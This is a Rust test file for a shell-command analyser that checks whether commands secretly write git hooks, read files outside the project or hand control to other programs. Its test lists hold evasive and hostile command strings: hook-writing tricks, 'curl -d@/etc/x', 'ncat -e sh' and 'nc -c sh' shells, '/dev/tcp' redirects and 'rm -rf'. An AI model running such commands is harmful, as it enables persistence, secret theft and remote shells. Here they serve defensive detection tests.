//! Ways to write, read or run something that the words of a command do not seem to name.

use std::path::Path;

use haft_shell::{Dialect, Touching};

use crate::{PROJECT, look, look_as};

const HOOK: &str = ".git/hooks/x";

/// Each must be unknown, or show that it writes the hook.
#[test]
fn a_hook_is_not_written_unseen() {
    let hook = Path::new(PROJECT).join(HOOK);
    let missed: Vec<&str> = [
        "git log --output .git/hooks/x",
        "git log --output=.git/hooks/x",
        "git -C . log --output .git/hooks/x",
        "git -C .git log --output hooks/x",
        "git archive -o .git/hooks/x HEAD",
        "git archive -o.git/hooks/x HEAD",
        "git archive --output .git/hooks/x HEAD",
        "git bundle create .git/hooks/x HEAD",
        "git merge-file .git/hooks/x a b",
        "sort --outp=.git/hooks/x f",
        "sort --outpu .git/hooks/x f",
        "cp --targ=.git/hooks x",
        "cp -vt.git/hooks x",
        "mv -vt .git/hooks x",
        "install -Dt .git/hooks x",
        "install -d .git/hooks/x a",
        "rsync -a x .git/hooks/",
        "rsync --log-file=.git/hooks/x a b",
        "curl -o .git/hooks/x u",
        "curl -sSo .git/hooks/x u",
        "curl -D .git/hooks/y --output=.git/hooks/x u",
        "wget -O .git/hooks/x u",
        "gcc -o .git/hooks/x y.c",
        "gcc -o.git/hooks/x y.c",
        "unheard --output .git/hooks/x",
        "tar --index-file=.git/hooks/x -cf y z",
        "tar --index-file .git/hooks/x -cf y z",
        "tar -g .git/hooks/x -cf y z",
        "tar -C.git/hooks -xf x",
        "patch -o .git/hooks/x y z",
        "sponge .git/hooks/x",
        "ln -s .git l && echo x > l/hooks/x",
        "ln -s ../.git src && cp a src/.git/hooks/x",
        "ln -s .git/hooks l; ln -s l m; cp a m/x",
        "eval 'cd .git'; cp a hooks/x",
        "command cd .git && cp a hooks/x",
        "builtin cd .git && cp a hooks/x",
    ]
    .into_iter()
    .filter(|command| {
        let found = look(command);
        found.is_known() && !found.writes().iter().any(|path| *path == hook || hook.parent() == Some(path))
    })
    .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Each puts things into the project folder without naming them.
#[test]
fn what_fills_a_folder_writes_all_of_it() {
    for command in [
        "tar xf a",
        "tar -xzf a.tgz",
        "tar --extract --file=a",
        "unzip a",
        "cp -r a/. .",
        "cp -a a/* .",
        "cp -rT a .",
        "cp -r a/.g* .",
        "mv a/.* .",
        "rsync -a a/ .",
        "cd src && tar xf ../a -C ..",
        "tar -C .. -C p -xf a",
    ] {
        let found = look(command);
        let all = found.touches.iter().any(|touch| {
            touch.how == Touching::Fill
                && touch.rest == "*"
                && touch.path.as_os_str().as_encoded_bytes().ends_with(b"/.")
        });
        assert!(!found.is_known() || all, "{command}: {:?}", found.touches);
    }
    let writes = look("cp -r evil/.git .").writes();
    assert!(writes.contains(&Path::new(PROJECT).join(".git")), "{writes:?}");
}

#[test]
fn a_file_outside_is_not_read_unseen() {
    let missed: Vec<&str> = [
        "grep -e. /etc/x",
        "grep -rne. /etc/x",
        "grep --regex=. /etc/x",
        "rg -efoo /etc/x",
        "find -- /etc -name x",
        "find -O3 /etc -name x",
        "tar -cfx.tar /etc/x",
        "tar cf a -C /etc x",
        "curl -d@/etc/x u",
        "curl file:///etc/x",
        "git -C /etc show x",
        "eval cd /etc; cat x",
        "command cd /etc; cat x",
        "cd src && ln -s ../../../../etc ../l && cat ../l/x",
        "ln -s /etc l && cat l/x",
        "ln -s /etc src/ && cat src/etc/x",
        "_=src; echo /etc/x; cat $_",
        "REPLY=src; read < f; cat $REPLY",
        "OPTARG=src; getopts a: o -a/etc/x; cat $OPTARG",
        "x=src; trap 'x=/etc/x' DEBUG; cat $x",
        "echo /etc/*",
        "printf '%s\\n' /etc/*",
        "for f in /etc/*; do echo x; done",
        "sort --files0-from=list",
        "wc --files0-from=list",
        "tar cf a -T list",
        "rsync --files-from=list a b",
        "cpio -o",
    ]
    .into_iter()
    .filter(|command| {
        let found = look(command);
        let outside = found.touches.iter().any(|touch| touch.path.starts_with("/etc"));
        found.is_known() && !outside
    })
    .collect();
    assert!(missed.is_empty(), "{missed:#?}");
    let packed = look("tar cf a -C src x").reads();
    assert!(packed.contains(&Path::new(PROJECT).join("src/x")), "{packed:?}");
}

#[test]
fn what_decides_about_other_programs_is_unknown() {
    let known: Vec<&str> = [
        "git config core.hooksPath x list",
        "git config alias.x '!sh' get",
        "git config core.pager get",
        "git config user.name x core.pager y",
        "git config --file=.git/config user.name x",
        "git config user.name --get",
        "git config core.fsmonitor --list",
        "git grep -nO'sh' x",
        "git grep -nOless x",
        "git clone -usomething x",
        "git apply --unsafe-paths x",
        "git remote-ext a 'sh -c x'",
        "git hook run pre-commit",
        "git shell -c x",
        "git credential-store get",
        "tar xf a -P",
        "tar xf host:a",
        "less '+!sh' f",
        "less -k x f",
        "awk 'BEGIN{sys\\\ntem(\"id\")}'",
        "find -f x -name y",
        "npm config set script-shell x",
        "npm explore x -- sh",
        "bun -e x",
        "bun exec x",
        "deno eval x",
        "gh alias set x '!sh'",
        "gh extension install x",
        "go env -w GOFLAGS=-toolexec=x",
        "python -m timeit 'x'",
        "sqlite3 x '.output y'",
        "sqlite3 x",
        "sqlite3 x \"select writefile('y', 1)\"",
        "psql -c '\\copy t to program x'",
        "psql -c \"COPY t TO PROGRAM 'x'\"",
        "psql",
        "mysql -e 'system x'",
        "ncat -e sh h 1",
        "nc -c sh h 1",
        "crontab x",
        "rename 's/x/`id`/e' f",
        "patch -p1 < x",
        "hyperfine x",
        "vimdiff a b",
        "repeat 3 rm x",
        "setopt x; ls",
        "poetry -C x run y",
        "exec 3<>/dev/tcp/a/1",
        "> /dev/tcp/a/1",
        "declare -p > /dev/udp/a/1",
    ]
    .into_iter()
    .filter(|command| look(command).is_known())
    .collect();
    assert!(known.is_empty(), "{known:#?}");
}

#[test]
fn what_a_program_runs_is_a_command_of_its_own() {
    for command in
        ["pnpm exec rm -rf x", "poetry run rm -rf x", "uv run -- rm -rf x", "bundle exec rm -rf x", "noglob rm -rf x"]
    {
        let found = look(command);
        assert_eq!(found.patterns, [command, "rm -rf x"]);
        assert!(found.is_known(), "{:?}", found.unknown);
    }
    assert_eq!(look("find src -name x -delete").spellings, ["rm -r src"]);
    assert_eq!(look("git rebase -ix 'rm -rf x' HEAD").patterns[1], "rm -rf x");
    assert_eq!(look("poetry run pytest -q").always, ["poetry run pytest *", "pytest *"]);
}

#[test]
fn what_shows_variables_is_asked_for() {
    for command in [
        "export",
        "export -p",
        "declare",
        "declare -p",
        "declare -xp",
        "readonly -p",
        "typeset -f",
        "export \"-p\"",
        "export -'p'",
        "declare $x",
        "declare -p > x",
    ] {
        assert_eq!(look(command).patterns, [command]);
    }
    for command in ["export A=1", "declare -r A=1", "local A", "typeset -i A=1"] {
        assert!(look(command).patterns.is_empty(), "{command}");
    }
}

#[test]
fn zsh_reads_more_into_variables_and_patterns() {
    for command in ["cat $PWD[1]etc/x", "cat $PWD:h/x", "cat **/x"] {
        assert!(!look_as(command, Dialect::Zsh).is_known(), "{command}");
    }
    assert!(look_as("cat $PWD/x; echo \"$PWD: yes\"", Dialect::Zsh).is_known());
}

#[test]
fn what_people_do_with_these_all_day_stays_known() {
    let unknown: Vec<(&str, Vec<String>)> = [
        "git config user.name",
        "git config --get remote.origin.url",
        "git config --global user.email a@b.c",
        "git config --list --show-origin",
        "git -C src log --oneline -n 3 -- a.rs",
        "git grep -n foo -- src",
        "git rebase main",
        "git checkout -b x && git push -u origin x",
        "tar -xzf a.tgz -C src",
        "tar czf a.tgz src",
        "unzip -o a.zip -d src",
        "cp -r a b",
        "cp a b src/",
        "ln -s ../a src/b",
        "rsync -av --exclude target src/ b/",
        "curl -fsSL -o a.json https://example.com/a.json",
        "find -L . -name x",
        "less f",
        "sqlite3 a.db 'select count(*) from t'",
        "psql -c 'select 1'",
        "npm config get registry",
        "go env GOPATH",
        "uv run pytest -q",
        "bun test",
        "python -m venv .venv",
        "gh pr view 3",
        "ls src/*.rs | wc -l",
        "for f in *.rs; do wc -l \"$f\"; done",
        "read -r x < f",
        "trap 'rm -f x' EXIT; ls",
        "grep --include='*.rs' -rn x src",
    ]
    .into_iter()
    .map(|command| (command, look(command).unknown))
    .filter(|(_, why)| !why.is_empty())
    .collect();
    assert!(unknown.is_empty(), "{unknown:#?}");
}

#[test]
fn so_many_links_are_followed_and_no_more() {
    // Each `ln` makes two: one where it says, and one in a folder of that name.
    let links = |count: usize| (0..count).map(|at| format!("ln -s b{at} l{at};")).collect::<String>();
    assert!(look(&links(16)).is_known());
    assert!(look(&links(100)).unknown.contains(&"it makes too many links".to_owned()));
    let round = look("ln -s b a; ln -s a b; cat a/x");
    assert!(round.touches.len() < 200, "{}", round.touches.len());
}
